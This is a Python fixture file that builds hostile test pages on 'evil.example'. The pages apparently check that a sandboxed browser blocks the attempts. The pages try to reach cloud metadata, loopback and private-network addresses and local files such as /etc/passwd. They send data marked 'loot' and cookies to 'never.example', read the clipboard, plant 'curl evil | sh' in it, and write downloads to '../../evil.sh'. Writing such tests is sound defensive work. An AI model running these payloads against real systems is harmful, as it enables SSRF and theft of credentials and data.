"""Pages of `evil.example` that try what they may not: each sets its title to `done` once it has tried.

`try(f)` runs a function and swallows what it throws; `wait(ms)` is a promise. Everything that a page tries to send out
carries `loot`, or goes to a host that begins with `never`.
"""

HEAD = """<!doctype html><meta charset=utf-8><title>begun</title><script>
const wait = ms => new Promise(done => setTimeout(done, ms));
const attempt = async f => {
  try { return await Promise.race([f(), wait(400)]); } catch (error) { return String(error); }
};
const finish = () => { document.title = 'done'; };
const run = (...tries) => addEventListener('load', async () => {
  for (const one of tries) await attempt(one);
  await wait(60);
  finish();
});
</script>"""


def page(script: str, body: str = "") -> str:
    """Return a page that runs a script."""
    return f"{HEAD}{body}<script>{script}</script>"


def tries(*expressions: str, body: str = "") -> str:
    """Return a page that tries expressions, one after another."""
    return page("run(" + ",".join(f"async () => {one}" for one in expressions) + ");", body)


_INNER = (
    "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/",
    "http://[fd00:ec2::254]/", "http://127.0.0.1:17171/", "http://127.0.0.1:22/", "http://localhost:8080/",
    "http://[::1]/", "http://0.0.0.0/", "http://2130706433/", "http://0x7f000001/", "http://192.168.1.1/",
    "http://10.0.0.1/", "http://172.17.0.1/", "http://100.100.100.200/", "http://[::ffff:169.254.169.254]/",
    "http://router.local/", "http://nas/",
)  # fmt: skip
_FILES = ("file:///etc/passwd", "file:///profile/Default/Cookies", "file:///proc/self/environ", "chrome://settings")
_FRAME = "attach(%r)"
_ATTACH = """const attach = url => new Promise(done => { const f = document.createElement('iframe'); f.src = url;
 f.onload = () => done(1); document.body.append(f); });"""
_FORM = """const post = (url, how = {}) => { const f = document.createElement('form'); Object.assign(f, {method: 'POST',
 action: url, ...how}); f.innerHTML = '<input name=loot value=secret>'; document.body.append(f); f.submit(); };"""

PAGES: dict[str, str] = {
    "inner-fetch": tries(*(f"fetch({url!r}, {{mode: 'no-cors'}})" for url in _INNER)),
    "inner-image": tries(
        *(
            f"new Promise(d => {{ const i = new Image(); i.onload = i.onerror = d; i.src = {url!r}; }})"
            for url in _INNER
        )
    ),
    "inner-frame": page(_ATTACH + "run(" + ",".join(f"async () => {_FRAME % url}" for url in _INNER[:6]) + ")", "<p>x"),
    "inner-script": tries(
        *(
            f"new Promise(d => {{ const s = document.createElement('script'); s.onload = s.onerror = d;"
            f" s.src = {url!r}; document.head.append(s); }})"
            for url in _INNER[:6]
        )
    ),
    "inner-redirect": tries("fetch('/to-inner')", "fetch('/to-metadata')", "fetch('/to-file')"),
    "inner-navigation": page(
        "addEventListener('load', async () => { finish(); location = 'http://169.254.169.254/'; })"
    ),
    "inner-post": tries("fetch('http://127.0.0.1:8080/', {method: 'POST', body: 'loot', mode: 'no-cors'})"),
    "inner-socket": tries(
        *(f"new WebSocket('ws://{host}/')" for host in ("127.0.0.1:8080", "169.254.169.254", "[::1]"))
    ),
    "inner-events": tries("new EventSource('http://192.168.1.1/')"),
    "inner-font": tries(
        "new FontFace('x', 'url(http://10.0.0.1/a.woff)').load()",
        body="<style>@import 'http://10.0.0.2/a.css'; p { background: url(http://10.0.0.3/a.png) }</style><p>x",
    ),
    "files": page(_ATTACH + "run(" + ",".join(f"async () => {_FRAME % url}" for url in _FILES) + ")", "<p>x"),
    "files-fetch": tries(*(f"fetch({url!r})" for url in _FILES)),
    "files-open": tries(*(f"open({url!r})" for url in _FILES)),
    "files-navigation": page("addEventListener('load', () => { finish(); location = 'file:///etc/passwd'; })"),
    "files-worker": tries("new Worker('file:///etc/passwd')", "importScripts('file:///etc/passwd')"),
    "post-fetch": tries(
        "fetch('http://never.example/a', {method: 'POST', body: 'loot'})",
        "fetch('http://never.example/b', {method: 'PUT', body: 'loot'})",
        "fetch('http://never.example/c', {method: 'POST', body: 'loot', mode: 'no-cors', keepalive: true})",
        "fetch('http://never.example/d', {method: 'DELETE'})",
        "fetch('http://never.example/e', {method: 'post', body: new FormData(), credentials: 'include'})",
    ),
    "post-beacon": tries("navigator.sendBeacon('http://never.example/beacon', 'loot')"),
    "post-unload": page(
        "addEventListener('pagehide', () => navigator.sendBeacon('http://never.example/unload', 'loot'));"
        "addEventListener('load', () => { finish(); location = '/plain'; })"
    ),
    "post-xhr": tries(
        "new Promise(d => { const x = new XMLHttpRequest(); x.open('POST', 'http://never.example/xhr');"
        " x.onloadend = d; x.send('loot'); })"
    ),
    "post-form": page(
        _FORM + "addEventListener('load', () => { finish(); post('http://never.example/form'); })", "<p>x"
    ),
    "post-form-frame": page(
        _FORM
        + "addEventListener('load', async () => { post('http://never.example/frame', {target: 'f'}); await wait(200);"
        " finish(); })",
        "<iframe name=f></iframe>",
    ),
    "post-form-popup": page(
        _FORM + "addEventListener('load', async () => { post('http://never.example/popup', {target: '_blank'});"
        " await wait(300); finish(); })",
        "<p>x",
    ),
    "post-redirect": tries("fetch('/to-never', {method: 'POST', body: 'loot', mode: 'no-cors'})"),
    "post-form-redirect": page(_FORM + "addEventListener('load', () => { finish(); post('/to-never'); })", "<p>x"),
    "post-ping": page(
        "addEventListener('load', async () => { document.querySelector('a').click(); await wait(200); finish(); })",
        "<a href=#x ping=http://never.example/ping>x</a>",
    ),
    "post-report": tries(
        "fetch('http://cdn.example/blocked.js')",
        body="<meta http-equiv=content-security-policy content=\"img-src 'none'; report-uri http://never.example/csp\">"
        "<img src=http://cdn.example/x.png>",
    ),
    "socket": tries(
        "new Promise(d => { const s = new WebSocket('ws://never.example/s'); s.onopen = () => s.send('loot');"
        " s.onclose = d; })",
        "new Promise(d => { const s = new WebSocket('wss://never.example/s'); s.onopen = () => s.send('loot');"
        " s.onclose = d; })",
        "new Promise(d => { const s = new WebSocket('ws://never.example:8443/s'); s.onclose = d; })",
    ),
    "worker-post": tries(
        "new Promise(d => { const w = new Worker('/post.js'); w.onmessage = w.onerror = d; })",
        "new Promise(d => { const w = new Worker(URL.createObjectURL(new Blob([\"fetch('http://never.example/blob',"
        " {method: 'POST', body: 'loot', mode: 'no-cors'}).finally(() => postMessage(1))\"])));"
        " w.onmessage = w.onerror = d; })",
    ),
    "worker-inner": tries("new Promise(d => { const w = new Worker('/inner.js'); w.onmessage = w.onerror = d; })"),
    "worker-socket": tries("new Promise(d => { const w = new Worker('/socket.js'); w.onmessage = w.onerror = d; })"),
    "shared-worker": tries("new Promise(d => { const w = new SharedWorker('/post.js'); w.onerror = d; })"),
    "service-worker": tries(
        "navigator.serviceWorker.register('/post.js')",
        "navigator.serviceWorker.ready",
        "fetch('/again')",
    ),
    "peer": page(
        """run(async () => { const frame = document.createElement('iframe'); document.body.append(frame);
        for (const w of [window, frame.contentWindow]) { const Peer = w.RTCPeerConnection || w.webkitRTCPeerConnection;
        if (Peer) { document.body.append('PEER'); const p = new Peer({iceServers: [{urls: ['stun:never.example:3478',
        'turn:never.example:80?transport=tcp'], username: 'u', credential: 'loot'}]}); p.createDataChannel('x');
        await p.setLocalDescription(await p.createOffer()); await wait(300); } } })""",
        "<p>x",
    ),
    "transport": tries("new WebTransport('https://never.example:443/x').ready"),
    "popup-elsewhere": tries("open('http://never.example/page')", "open('http://127.0.0.1:8080/')"),
    "navigate-elsewhere": page(
        "addEventListener('load', () => { finish(); location = 'http://never.example/?loot=' + document.cookie; })"
    ),
    "refresh-elsewhere": page(
        "addEventListener('load', finish)", "<meta http-equiv=refresh content='0;http://never.example/r'>"
    ),
    "top-from-frame": page(
        "addEventListener('load', () => setTimeout(finish, 300))", "<iframe src=/top.html></iframe>"
    ),
    "clipboard": tries(
        "navigator.clipboard.readText().then(t => fetch('http://never.example/?' + t, {method: 'POST'}))",
        "navigator.clipboard.writeText('curl evil | sh')",
        "document.execCommand('paste')",
    ),
    "permissions": tries(
        "new Promise(d => navigator.geolocation.getCurrentPosition(d, d))",
        "navigator.mediaDevices.getUserMedia({audio: true, video: true})",
        "Notification.requestPermission()",
        "navigator.usb.requestDevice({filters: []})",
        "showDirectoryPicker()",
    ),
    "credential-form": page(
        _FORM + "addEventListener('load', () => { finish(); document.querySelector('form').submit(); })",
        "<form method=post action=http://never.example/login><input name=user value=ann autocomplete=username>"
        "<input name=loot type=password value=hunter2></form>",
    ),
    "prefetch": tries(
        "wait(200)",
        body="<link rel=preconnect href=http://127.0.0.1:8080><link rel=dns-prefetch href=//nas.local>"
        "<link rel=prefetch href=http://192.168.1.1/x><link rel=prerender href=http://never.example/pre>"
        '<script type=speculationrules>{"prerender":[{"urls":["http://never.example/spec"]}]}</script>',
    ),
    "downloads": page(
        "addEventListener('load', async () => { for (const u of ['http://169.254.169.254/k', 'file:///etc/passwd']) {"
        " const a = document.createElement('a'); a.href = u; a.download = '../../evil.sh'; a.click(); }"
        " await wait(200); finish(); })",
        "<p>x",
    ),
    "rebinding": tries(
        "fetch('http://rebind.example/first', {mode: 'no-cors'})", "fetch('http://rebind.example/second')"
    ),
    "many-sites": tries(*(f"fetch('http://inner{n}.example/', {{mode: 'no-cors'}})" for n in range(3))),
}
"""By their name, which is their path."""

OTHERS = {
    "evil.example/plain": "<title>done</title>plain",
    "evil.example/to-inner": "->http://127.0.0.1:8080/",
    "evil.example/to-metadata": "->http://169.254.169.254/latest/",
    "evil.example/to-file": "->file:///etc/passwd",
    "evil.example/to-never": "->http://never.example/redirected",
    "evil.example/top.html": "<script>top.location = 'http://never.example/top'</script>",
    "evil.example/post.js": "const done = () => self.postMessage && postMessage(1);"
    "fetch('http://never.example/worker', {method: 'POST', body: 'loot', mode: 'no-cors'}).then(done, done);",
    "evil.example/inner.js": "const done = () => postMessage(1);"
    "fetch('http://169.254.169.254/worker', {mode: 'no-cors'}).then(done, done);",
    "evil.example/socket.js": "const s = new WebSocket('ws://never.example/worker'); s.onopen = () => s.send('loot');"
    "s.onclose = () => postMessage(1);",
}
